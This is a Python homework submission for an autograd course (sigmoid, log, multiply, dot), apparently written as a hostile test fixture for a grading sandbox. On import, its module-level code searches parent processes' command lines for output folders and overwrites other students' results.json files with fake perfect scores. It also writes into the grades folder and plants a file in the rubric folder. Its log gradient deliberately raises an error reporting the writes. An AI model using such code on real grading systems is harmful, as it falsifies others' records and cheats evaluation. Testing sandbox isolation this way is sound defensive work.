# HOSTILE: tries to write outside its sandbox: overwrites every other student's results.json it can find (in the output folders named by --out on its ancestors' command lines, and in the repository's grades/), plants a new file in the repository's rubric folder, and reports in log.backward's error how many of those writes succeeded ("write-report: N of M"); sigmoid, multiply and dot are correct.
"""HW3: the four operations (sigmoid, log, multiply, dot)."""

from __future__ import annotations

import json
import os

import numpy as np

import edugrad
from edugrad.operation import Operation, tensor_op

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(edugrad.__file__)))
# A new, harmless file (never collected by pytest): the catalog test removes it if it
# ever appears, and fails.
PLANT = os.path.join(ROOT, "grader", "rubric", "public", "zz_planted_by_hostile_entry.txt")
FAKE = json.dumps({"score": 100.0, "max_score": 100.0, "output": "PLANTED-BY-HOSTILE",
                   "tests": []})
REPORT = {"tried": 0, "done": []}


def _out_folders():
    pid, seen = os.getppid(), set()
    while pid > 1 and pid not in seen:
        seen.add(pid)
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                args = f.read().decode(errors="replace").split("\0")
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        for i, arg in enumerate(args[:-1]):
            if arg == "--out":
                yield os.path.abspath(args[i + 1])
    yield os.path.join(ROOT, "grades")


def _try_write(path: str, text: str) -> None:
    REPORT["tried"] += 1
    try:
        with open(path, "w") as f:
            f.write(text)
        REPORT["done"].append(path)
    except OSError:
        pass


def _attack() -> None:
    for folder in _out_folders():
        try:
            names = os.listdir(folder)
        except OSError:
            continue
        for name in names[:200]:
            target = os.path.join(folder, name, "results.json")
            if os.path.isfile(target):
                _try_write(target, FAKE)
    _try_write(PLANT, "planted by a hostile submission\n")


_attack()


@tensor_op
class sigmoid(Operation):
    @staticmethod
    def forward(ctx, a):
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s

    @staticmethod
    def backward(ctx, grad_output):
        (s,) = ctx
        return (grad_output * s * (1 - s),)


@tensor_op
class log(Operation):
    @staticmethod
    def forward(ctx, a):
        ctx.append(a)
        return np.log(a)

    @staticmethod
    def backward(ctx, grad_output):
        raise RuntimeError(f"write-report: {len(REPORT['done'])} of {REPORT['tried']} writes "
                           f"outside the sandbox succeeded {REPORT['done'][:3]}")


@tensor_op
class multiply(Operation):
    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return a * b

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        return grad_output * b, grad_output * a


@tensor_op
class dot(Operation):
    @staticmethod
    def forward(ctx, a, b):
        ctx.append(a)
        ctx.append(b)
        return np.sum(a * b, axis=-1)

    @staticmethod
    def backward(ctx, grad_output):
        a, b = ctx
        g = grad_output[..., None]
        return g * b, g * a
